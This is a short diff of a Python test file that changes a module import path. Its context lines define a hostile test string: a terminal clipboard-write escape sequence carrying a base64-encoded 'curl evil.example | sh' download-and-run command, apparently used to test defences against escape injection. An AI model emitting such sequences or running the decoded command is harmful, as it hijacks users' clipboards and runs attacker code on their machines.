@@ -27,7 +27,7 @@ from ..fake_provider import FakeProvider, host_with
 
 capability_cli = importlib.import_module("loopx_recall_core.cli.capability")
 # the operator commands load the plugins in the library, not in cli/
-recall_lib = importlib.import_module("loopx_recall_core.recall.operator_requests")
+recall_lib = importlib.import_module("loopx_recall_core.operator_requests")
 
 HOSTILE = (
     "pytest failed\x1b]52;c;Y3VybCBldmlsLmV4YW1wbGUgfCBzaA==\x07"  # clipboard write
